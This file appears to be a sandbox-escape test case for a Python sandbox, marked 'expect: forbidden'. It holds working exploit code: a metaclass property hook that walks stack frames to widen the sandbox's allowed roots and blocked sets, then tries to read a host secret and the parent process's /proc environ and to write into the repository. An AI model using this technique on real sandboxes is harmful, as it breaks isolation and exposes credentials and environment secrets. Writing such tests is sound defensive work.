# expect: forbidden
# ruff: noqa: SIM105, SIM115
# expect-kernel: ok
# value: 1
# A str subclass whose metaclass makes `__name__` a property: a hook that formats `type(path).__name__` runs it.
# From inside the hook it walks the frames to the hook's closure cells and widens every root and blocked set,
# then reads the host's secret, the parent's environment and writes into the repository.
import sys

STOLEN = []


def widen(frame):
    while frame is not None:
        for value in list(frame.f_locals.values()):
            for cell in getattr(value, "__closure__", None) or ():
                try:
                    content = cell.cell_contents
                    if isinstance(content, tuple) and all(isinstance(x, str) for x in content):
                        cell.cell_contents = ("/",)
                    elif isinstance(content, (frozenset, set, dict)):
                        cell.cell_contents = type(content)()
                    elif isinstance(content, list):
                        content[:] = [10**9]
                except Exception:
                    pass
        frame = frame.f_back


class Meta(type):
    @property
    def __name__(cls):
        widen(sys._getframe(1))
        STOLEN.append("ran inside the hook")
        return "Path"


class Sneaky(str, metaclass=Meta):
    pass


def leak(what):
    try:
        open("/leak/SANDBOX-ESCAPED " + what[:150])
    except Exception:
        pass
    return "SANDBOX-ESCAPED " + what[:150]


def check(**p):
    for attempt in (lambda: open(Sneaky(p["secret_file"])).read(),
                    lambda: open(p["secret_file"]).read(),
                    lambda: open(f"/proc/{p['host_process']}/environ", "rb").read().decode(errors="replace"),
                    lambda: open(p["world_file"]).read()):
        try:
            return leak(attempt())
        except Exception:
            pass
    try:
        with open(p["repo_target"], "w") as fh:
            fh.write("escaped")
        return leak("wrote into the repository")
    except Exception:
        pass
    return leak(STOLEN[0]) if STOLEN else 1
